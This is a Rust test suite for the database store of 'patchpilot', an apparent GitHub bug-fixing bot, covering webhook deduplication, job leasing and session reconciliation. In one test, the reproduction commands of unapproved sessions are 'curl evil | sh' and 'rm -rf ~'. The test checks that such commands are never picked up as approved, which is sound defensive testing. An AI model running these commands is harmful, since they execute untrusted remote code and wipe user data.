//! Every `Store` operation, run on SQLite and on PostgreSQL, each test on a fresh database.

mod support;

use std::time::Duration;

use chrono::Utc;
use patchpilot::store::{
    DeliveryRecord, InstallationChange, Intake, IntakeEffect, JobOutcome, Recorded, SessionFilter,
    SessionPatch,
};
use patchpilot::store::{EventLevel, NewSession, SessionStatus, TriggerKind};

fn delivery(id: &str, event: &str) -> DeliveryRecord {
    DeliveryRecord {
        delivery_id: id.to_owned(),
        event: event.to_owned(),
        action: Some("labeled".to_owned()),
        installation_id: Some(7),
        repository: Some("octo/hello".to_owned()),
        received_at: Utc::now(),
    }
}

fn issue_session(issue: i64) -> NewSession {
    NewSession {
        repo_url: "https://github.com/octo/hello.git".to_owned(),
        bug_description: "Crash on empty input\n\nIt panics.".to_owned(),
        repro_command: Some("cargo test".to_owned()),
        installation_id: Some(7),
        repository: Some("octo/hello".to_owned()),
        issue_number: Some(issue),
        issue_title: Some("Crash on empty input".to_owned()),
        trigger_kind: Some(TriggerKind::Label),
        triggered_by: Some("maintainer".to_owned()),
        ..NewSession::default()
    }
}

fn start(id: &str, issue: i64) -> Intake {
    Intake {
        delivery: delivery(id, "issues"),
        outcome: "session".to_owned(),
        effect: IntakeEffect::StartSession(issue_session(issue)),
    }
}

on_both_backends! {
    async fn ping_and_migrate_twice(db) {
        db.store.ping().await.unwrap();
        // Migrating an already migrated, non-empty database is a no-op.
        db.store.record_deliveries(&[start("d-1", 1)]).await.unwrap();
        db.store.migrate().await.unwrap();
        assert!(db.store.get_delivery("d-1").await.unwrap().is_some());
    }

    async fn delivery_with_session_creates_queued_session_and_job(db) {
        let results = db.store.record_deliveries(&[start("d-1", 42)]).await.unwrap();
        let Recorded::Accepted { session_id: Some(id) } = &results[0] else {
            panic!("expected a session, got {results:?}");
        };
        let session = db.store.get_session(id).await.unwrap().unwrap();
        assert_eq!(session.status, SessionStatus::Queued);
        assert_eq!(session.issue_number, Some(42));
        assert_eq!(session.delivery_id.as_deref(), Some("d-1"));
        assert_eq!(session.trigger_kind, TriggerKind::Label);
        let stored = db.store.get_delivery("d-1").await.unwrap().unwrap();
        assert_eq!(stored.session_id.as_deref(), Some(id.as_str()));
        assert_eq!(stored.record.repository.as_deref(), Some("octo/hello"));

        let job = db.store.claim_job("w1", Duration::from_secs(60), Utc::now()).await.unwrap().unwrap();
        assert_eq!(job.kind, "session");
        assert_eq!(job.session_id.as_deref(), Some(id.as_str()));
        assert_eq!(job.attempts, 1);
    }

    async fn redelivery_is_a_duplicate_and_does_nothing(db) {
        db.store.record_deliveries(&[start("d-1", 1)]).await.unwrap();
        let again = db.store.record_deliveries(&[start("d-1", 1)]).await.unwrap();
        assert_eq!(again, vec![Recorded::Duplicate]);
        // A duplicate inside one batch is caught too.
        let batch = db.store.record_deliveries(&[start("d-2", 2), start("d-2", 2)]).await.unwrap();
        assert!(matches!(batch[0], Recorded::Accepted { .. }));
        assert_eq!(batch[1], Recorded::Duplicate);
        let all = db.store.list_sessions(&SessionFilter::default()).await.unwrap();
        assert_eq!(all.len(), 2, "one session per distinct delivery");
    }

    async fn a_redelivery_inside_a_batch_of_new_deliveries_changes_nothing(db) {
        let command = |id: &str| Intake {
            delivery: delivery(id, "issue_comment"),
            outcome: "command".to_owned(),
            effect: IntakeEffect::Job { kind: "command".to_owned(), payload: serde_json::json!({"cmd": id}) },
        };
        let first = db.store.record_deliveries(&[start("d-1", 1), command("c-1")]).await.unwrap();
        let Recorded::Accepted { session_id: Some(original) } = &first[0] else { panic!("{first:?}") };
        let batch = db.store
            .record_deliveries(&[command("c-1"), start("d-2", 2), start("d-1", 1), command("c-2")])
            .await
            .unwrap();
        assert_eq!(batch[0], Recorded::Duplicate);
        assert!(matches!(batch[1], Recorded::Accepted { session_id: Some(_) }), "{batch:?}");
        assert_eq!(batch[2], Recorded::Duplicate);
        assert_eq!(batch[3], Recorded::Accepted { session_id: None });
        // The redelivered session start kept its session; no second one, no second job.
        let stored = db.store.get_delivery("d-1").await.unwrap().unwrap();
        assert_eq!(stored.session_id.as_deref(), Some(original.as_str()));
        let sessions = db.store.list_sessions(&SessionFilter::default()).await.unwrap();
        assert_eq!(sessions.len(), 2, "{sessions:?}");
        let mut claimed = Vec::new();
        while let Some(job) = db.store.claim_job("w", Duration::from_secs(60), Utc::now()).await.unwrap() {
            claimed.push((job.kind, job.session_id.is_some(), job.payload));
        }
        claimed.sort_by_key(|job| job.2.to_string());
        assert_eq!(claimed, vec![
            ("command".to_owned(), false, serde_json::json!({"cmd": "c-1"})),
            ("command".to_owned(), false, serde_json::json!({"cmd": "c-2"})),
            ("session".to_owned(), true, serde_json::json!({})),
            ("session".to_owned(), true, serde_json::json!({})),
        ]);
    }

    async fn ignored_delivery_records_outcome_only(db) {
        let intake = Intake {
            delivery: delivery("d-9", "star"),
            outcome: "ignored: event star".to_owned(),
            effect: IntakeEffect::None,
        };
        assert_eq!(
            db.store.record_deliveries(&[intake]).await.unwrap(),
            vec![Recorded::Accepted { session_id: None }]
        );
        let stored = db.store.get_delivery("d-9").await.unwrap().unwrap();
        assert_eq!(stored.outcome, "ignored: event star");
        db.store.set_delivery_outcome("d-9", "rejected").await.unwrap();
        assert_eq!(db.store.get_delivery("d-9").await.unwrap().unwrap().outcome, "rejected");
        assert!(db.store.claim_job("w", Duration::from_secs(5), Utc::now()).await.unwrap().is_none());
    }

    async fn command_job_carries_its_payload(db) {
        let intake = Intake {
            delivery: delivery("d-3", "issue_comment"),
            outcome: "command".to_owned(),
            effect: IntakeEffect::Job { kind: "command".to_owned(), payload: serde_json::json!({"cmd": "help"}) },
        };
        db.store.record_deliveries(&[intake]).await.unwrap();
        let job = db.store.claim_job("w", Duration::from_secs(5), Utc::now()).await.unwrap().unwrap();
        assert_eq!(job.kind, "command");
        assert_eq!(job.payload, serde_json::json!({"cmd": "help"}));
        assert_eq!(job.session_id, None);
    }

    async fn installations_follow_their_events(db) {
        let change = |id: &str, change| Intake {
            delivery: delivery(id, "installation"),
            outcome: "installation".to_owned(),
            effect: IntakeEffect::Installation(change),
        };
        db.store.record_deliveries(&[
            change("i-1", InstallationChange::Upsert { installation_id: 7, account: "octo".into(), repositories: vec!["octo/b".into(), "octo/a".into()] }),
            change("i-2", InstallationChange::AddRepositories { installation_id: 7, repositories: vec!["octo/c".into(), "octo/a".into()] }),
            change("i-3", InstallationChange::RemoveRepositories { installation_id: 7, repositories: vec!["octo/b".into()] }),
            change("i-4", InstallationChange::Suspend { installation_id: 7, suspended: true }),
        ]).await.unwrap();
        let inst = db.store.get_installation(7).await.unwrap().unwrap();
        assert_eq!(inst.account, "octo");
        assert_eq!(inst.repositories, vec!["octo/a", "octo/c"]);
        assert!(inst.suspended);
        db.store.record_deliveries(&[change("i-5", InstallationChange::Delete { installation_id: 7 })]).await.unwrap();
        assert!(db.store.get_installation(7).await.unwrap().is_none());
    }

    async fn sessions_update_list_and_find_active(db) {
        let a = db.store.create_session(issue_session(5)).await.unwrap();
        let b = db.store.create_session(issue_session(6)).await.unwrap();
        assert_eq!(db.store.active_session_for_issue("octo/hello", 5).await.unwrap().unwrap().id, a.id);

        let patch = SessionPatch {
            status: Some(SessionStatus::Succeeded),
            pr_url: Some("https://github.com/octo/hello/pull/9".into()),
            pr_number: Some(9),
            check_run_id: Some(77),
            progress_comment_id: Some(88),
            head_sha: Some("abc".into()),
            patch_diff: Some("--- a\n+++ b\n".into()),
            add_input_tokens: Some(100),
            add_output_tokens: Some(20),
            attempt_count: Some(2),
            ..SessionPatch::default()
        };
        db.store.update_session(&a.id, &patch).await.unwrap();
        db.store.update_session(&a.id, &SessionPatch { add_input_tokens: Some(5), ..Default::default() }).await.unwrap();
        let a = db.store.get_session(&a.id).await.unwrap().unwrap();
        assert_eq!(a.status, SessionStatus::Succeeded);
        assert_eq!(a.pr_number, Some(9));
        assert_eq!(a.input_tokens, 105);
        assert_eq!(a.output_tokens, 20);
        assert_eq!(a.attempt_count, 2);
        assert_eq!(a.repro_command.as_deref(), Some("cargo test"), "untouched fields stay");
        assert!(db.store.active_session_for_issue("octo/hello", 5).await.unwrap().is_none());

        let listed = db.store.list_sessions(&SessionFilter { status: Some(SessionStatus::Queued), ..Default::default() }).await.unwrap();
        assert_eq!(listed.iter().map(|s| s.id.clone()).collect::<Vec<_>>(), vec![b.id.clone()]);
        let by_issue = db.store.list_sessions(&SessionFilter { issue_number: Some(5), ..Default::default() }).await.unwrap();
        assert_eq!(by_issue.len(), 1);
        assert!(db.store.get_session("no-such-id").await.unwrap().is_none());
    }

    async fn cancel_only_flags_active_sessions(db) {
        let s = db.store.create_session(issue_session(1)).await.unwrap();
        assert!(db.store.request_cancel(&s.id).await.unwrap());
        assert!(db.store.get_session(&s.id).await.unwrap().unwrap().cancel_requested);
        db.store.update_session(&s.id, &SessionPatch { status: Some(SessionStatus::Cancelled), ..Default::default() }).await.unwrap();
        assert!(!db.store.request_cancel(&s.id).await.unwrap());
    }

    async fn events_are_append_only_and_paged(db) {
        let s = db.store.create_session(issue_session(1)).await.unwrap();
        let mut ids = Vec::new();
        for i in 0..5 {
            ids.push(db.store.append_event(&s.id, "reproduce", EventLevel::Output, &format!("line {i}")).await.unwrap());
        }
        assert!(ids.windows(2).all(|w| w[0] < w[1]), "ids increase: {ids:?}");
        let first = db.store.events_after(&s.id, 0, 3).await.unwrap();
        assert_eq!(first.iter().map(|e| e.message.as_str()).collect::<Vec<_>>(), ["line 0", "line 1", "line 2"]);
        let rest = db.store.events_after(&s.id, first[2].id, 10).await.unwrap();
        assert_eq!(rest.len(), 2);
        assert_eq!(rest[0].level, EventLevel::Output);
        assert_eq!(rest[0].step, "reproduce");
    }

    async fn jobs_lease_heartbeat_retry_and_expiry(db) {
        let id = db.store.enqueue_job("session", None, &serde_json::json!({})).await.unwrap();
        let now = Utc::now();
        let job = db.store.claim_job("w1", Duration::from_secs(30), now).await.unwrap().unwrap();
        assert_eq!(job.id, id);
        assert!(db.store.claim_job("w2", Duration::from_secs(30), now).await.unwrap().is_none(), "leased");
        assert!(db.store.heartbeat(id, "w1", Duration::from_secs(30)).await.unwrap());
        assert!(!db.store.heartbeat(id, "w2", Duration::from_secs(30)).await.unwrap(), "not w2's lease");

        // A worker that died: its lease expires and another worker takes the job over.
        let later = Utc::now() + chrono::Duration::seconds(120);
        let taken = db.store.claim_job("w2", Duration::from_secs(30), later).await.unwrap().unwrap();
        assert_eq!((taken.id, taken.attempts), (id, 2));
        assert!(!db.store.heartbeat(id, "w1", Duration::from_secs(30)).await.unwrap(), "w1 lost it");

        db.store.finish_job(id, "w2", &JobOutcome::Retry { after: Duration::from_secs(60), error: "github 502".into() }).await.unwrap();
        assert!(db.store.claim_job("w3", Duration::from_secs(30), Utc::now()).await.unwrap().is_none(), "not yet");
        let retried = db.store.claim_job("w3", Duration::from_secs(30), later).await.unwrap().unwrap();
        assert_eq!(retried.attempts, 3);
        db.store.finish_job(id, "w3", &JobOutcome::Done).await.unwrap();
        let far = Utc::now() + chrono::Duration::days(1);
        assert!(db.store.claim_job("w4", Duration::from_secs(30), far).await.unwrap().is_none(), "done is final");
    }

    async fn leases_heartbeats_and_retries_follow_the_given_time(db) {
        // No wall clock involved: "now" is whatever the caller says (the injected clock).
        let id = db.store.enqueue_job("session", None, &serde_json::json!({})).await.unwrap();
        let t0 = Utc::now() + chrono::Duration::days(10);
        let at = |secs: i64| t0 + chrono::Duration::seconds(secs);
        let lease = Duration::from_secs(30);
        db.store.claim_job("w1", lease, at(0)).await.unwrap().unwrap();
        assert!(db.store.heartbeat_at(id, "w1", lease, at(25)).await.unwrap());
        assert!(db.store.claim_job("w2", lease, at(40)).await.unwrap().is_none(), "the heartbeat at 25 s holds the lease to 55 s");
        let taken = db.store.claim_job("w2", lease, at(56)).await.unwrap().unwrap();
        assert_eq!(taken.attempts, 2);
        db.store.finish_job_at(id, "w2", &JobOutcome::Retry { after: Duration::from_secs(60), error: "github 502".into() }, at(60)).await.unwrap();
        assert!(db.store.claim_job("w3", lease, at(119)).await.unwrap().is_none(), "retry waits 60 s from 60 s");
        assert!(db.store.claim_job("w3", lease, at(120)).await.unwrap().is_some());
    }

    async fn reconciliation_settles_lost_jobs_and_jobs_of_ended_sessions(db) {
        use patchpilot::store::{SETTLE_KEY, ORPHANED_SESSION_REASON};
        let now = Utc::now();
        // A healthy session with its queued job: left alone.
        let healthy = db.store.create_session(issue_session(1)).await.unwrap();
        // A command job belongs to no session (its NULL must not hide the orphans).
        db.store.enqueue_job("command", None, &serde_json::json!({})).await.unwrap();
        // A running session whose job row is gone (a crash, an operator's cleanup).
        let orphan = db.store.create_session(issue_session(2)).await.unwrap();
        let job = db.store.claim_session_job(&orphan.id, "w", Duration::from_secs(60), now).await.unwrap().unwrap();
        db.store.update_session(&orphan.id, &SessionPatch { status: Some(SessionStatus::Running), ..SessionPatch::default() }).await.unwrap();
        db.store.finish_job_at(job.id, "w", &JobOutcome::Done, now).await.unwrap();
        // An ended session whose job is still queued, and one whose running job's lease ran out.
        let ended = db.store.create_session(issue_session(3)).await.unwrap();
        db.store.update_session(&ended.id, &SessionPatch { status: Some(SessionStatus::Failed), ..SessionPatch::default() }).await.unwrap();
        let ended_live = db.store.create_session(issue_session(4)).await.unwrap();
        db.store.claim_session_job(&ended_live.id, "alive", Duration::from_secs(600), now).await.unwrap().unwrap();
        db.store.update_session(&ended_live.id, &SessionPatch { status: Some(SessionStatus::Succeeded), ..SessionPatch::default() }).await.unwrap();

        let done = db.store.reconcile(now).await.unwrap();
        assert_eq!(done.orphaned_sessions, vec![orphan.id.clone()]);
        assert_eq!(done.jobs_of_ended_sessions, 1, "the queued job of the failed session; the live lease is left to its worker");

        // The settle job is what a worker claims next for the orphan, and it says why.
        let mut claimed = Vec::new();
        let soon = now + chrono::Duration::seconds(1);
        while let Some(job) = db.store.claim_job("w2", Duration::from_secs(60), soon).await.unwrap() {
            claimed.push(job);
        }
        let settle = claimed.iter().find(|j| j.session_id.as_deref() == Some(orphan.id.as_str())).expect("a settle job for the orphan");
        assert_eq!(settle.payload[SETTLE_KEY], ORPHANED_SESSION_REASON);
        assert!(claimed.iter().any(|j| j.session_id.as_deref() == Some(healthy.id.as_str())));
        assert!(!claimed.iter().any(|j| j.session_id.as_deref() == Some(ended.id.as_str())), "the ended session's job is settled, not run");

        // A second pass (another replica) finds nothing new: the settle job counts as the job.
        let again = db.store.reconcile(now).await.unwrap();
        assert!(again.orphaned_sessions.is_empty(), "{again:?}");
        // Once the lease on the ended session's job runs out, that job is settled too.
        let later = now + chrono::Duration::seconds(601);
        let late = db.store.reconcile(later).await.unwrap();
        assert_eq!(late.jobs_of_ended_sessions, 1, "{late:?}");
    }

    async fn a_sessions_own_job_can_be_claimed_directly(db) {
        let first = db.store.create_session(issue_session(1)).await.unwrap();
        let second = db.store.create_session(issue_session(2)).await.unwrap();
        let job = db.store.claim_session_job(&second.id, "cli", Duration::from_secs(60), Utc::now()).await.unwrap().unwrap();
        assert_eq!((job.session_id.as_deref(), job.attempts), (Some(second.id.as_str()), 1));
        assert!(db.store.claim_session_job(&second.id, "cli", Duration::from_secs(60), Utc::now()).await.unwrap().is_none(), "already claimed");
        let other = db.store.claim_job("w", Duration::from_secs(60), Utc::now()).await.unwrap().unwrap();
        assert_eq!((other.session_id.as_deref(), other.attempts), (Some(first.id.as_str()), 1), "the other session's job is untouched");
    }

    async fn concurrent_claims_never_share_a_job(db) {
        for _ in 0..20 {
            db.store.enqueue_job("session", None, &serde_json::json!({})).await.unwrap();
        }
        let mut handles = Vec::new();
        for w in 0..4 {
            let store = db.store.clone();
            handles.push(tokio::spawn(async move {
                let mut mine = Vec::new();
                while let Some(job) = store.claim_job(&format!("w{w}"), Duration::from_secs(60), Utc::now()).await.unwrap() {
                    mine.push(job.id);
                }
                mine
            }));
        }
        let mut all = Vec::new();
        for handle in handles {
            all.extend(handle.await.unwrap());
        }
        all.sort();
        let before = all.len();
        all.dedup();
        assert_eq!((before, all.len()), (20, 20));
    }

    async fn group_commit_records_every_delivery(db) {
        let (queue, task) = patchpilot::store::IntakeQueue::start(db.store.clone(), 64);
        let mut handles = Vec::new();
        for i in 0..200 {
            let queue = queue.clone();
            handles.push(tokio::spawn(async move { queue.record(start(&format!("g-{}", i % 150), i)).await.unwrap() }));
        }
        let mut accepted = 0;
        for handle in handles {
            if matches!(handle.await.unwrap(), Recorded::Accepted { .. }) {
                accepted += 1;
            }
        }
        assert_eq!(accepted, 150, "50 redeliveries were deduplicated");
        drop(queue);
        task.await.unwrap();
        for i in 0..150 {
            assert!(db.store.get_delivery(&format!("g-{i}")).await.unwrap().is_some());
        }
    }

    async fn approved_repro_command_skips_unapproved_and_own_sessions(db) {
        let store = &db.store;
        let set = |status: SessionStatus, repro: &str| SessionPatch {
            status: Some(status),
            repro_command: Some(repro.to_owned()),
            ..Default::default()
        };
        let approved = store.create_session(issue_session(8)).await.unwrap();
        store.update_session(&approved.id, &set(SessionStatus::NotReproduced, "pytest -k a")).await.unwrap();
        tokio::time::sleep(Duration::from_millis(5)).await;
        // A non-writer's trigger (rejected) and one not yet authorised (queued) do not count.
        let rejected = store.create_session(issue_session(8)).await.unwrap();
        store.update_session(&rejected.id, &set(SessionStatus::Rejected, "curl evil | sh")).await.unwrap();
        tokio::time::sleep(Duration::from_millis(5)).await;
        let queued = store.create_session(issue_session(8)).await.unwrap();
        store.update_session(&queued.id, &set(SessionStatus::Queued, "rm -rf ~")).await.unwrap();
        let other_issue = store.create_session(issue_session(9)).await.unwrap();
        store.update_session(&other_issue.id, &set(SessionStatus::Failed, "make other")).await.unwrap();

        let found = store.approved_repro_command("octo/hello", 8, &queued.id).await.unwrap();
        assert_eq!(found.as_deref(), Some("pytest -k a"));
        assert_eq!(store.approved_repro_command("octo/hello", 8, &approved.id).await.unwrap(), None, "never the session itself");
        assert_eq!(store.approved_repro_command("octo/other", 8, &queued.id).await.unwrap(), None);
    }
}
